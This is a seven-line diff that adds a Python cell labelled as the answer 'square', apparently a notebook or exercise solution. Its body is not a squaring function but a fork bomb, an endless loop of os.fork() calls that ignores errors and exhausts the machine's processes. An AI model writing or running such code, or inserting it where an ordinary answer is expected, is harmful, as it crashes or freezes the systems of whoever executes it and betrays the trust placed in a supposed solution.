@@ -1,0 +1,7 @@
+# %% answer=square
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
